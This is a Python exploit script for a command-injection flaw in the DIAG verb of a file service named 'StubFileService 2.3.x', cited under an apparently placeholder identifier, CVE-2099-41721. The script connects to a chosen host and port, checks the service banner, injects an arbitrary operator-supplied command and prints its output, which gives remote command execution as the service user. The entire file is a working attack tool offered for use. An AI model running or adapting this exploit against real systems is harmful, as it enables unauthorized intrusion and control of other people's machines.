#!/usr/bin/env python3
"""CVE-2099-41721: the DIAG maintenance verb in StubFileService 2.3.x
passes its argument to a shell unvalidated. One crafted line yields
command execution as the service user."""

import argparse
import socket
import sys


def recv_line(sock):
    buf = bytearray()
    while not buf.endswith(b"\n"):
        chunk = sock.recv(1)
        if not chunk:
            break
        buf += chunk
    return buf.decode(errors="replace").rstrip("\r\n")


def main():
    ap = argparse.ArgumentParser(description="StubFileService DIAG command injection")
    ap.add_argument("--target", required=True, help="service host")
    ap.add_argument("--port", type=int, default=45832, help="control port")
    ap.add_argument("--command", default="id", help="command to run on the target")
    args = ap.parse_args()

    with socket.create_connection((args.target, args.port), timeout=10) as sock:
        banner = recv_line(sock)
        if "StubFileService" not in banner:
            print(f"unexpected banner: {banner!r}", file=sys.stderr)
            return 2
        sock.sendall(f"DIAG {args.command}\n".encode())
        ack = recv_line(sock)
        if not ack.startswith("250"):
            print(f"DIAG rejected: {ack!r}", file=sys.stderr)
            return 1
        sock.settimeout(5)
        try:
            while True:
                chunk = sock.recv(4096)
                if not chunk:
                    break
                sys.stdout.write(chunk.decode(errors="replace"))
        except socket.timeout:
            pass
    return 0


if __name__ == "__main__":
    sys.exit(main())
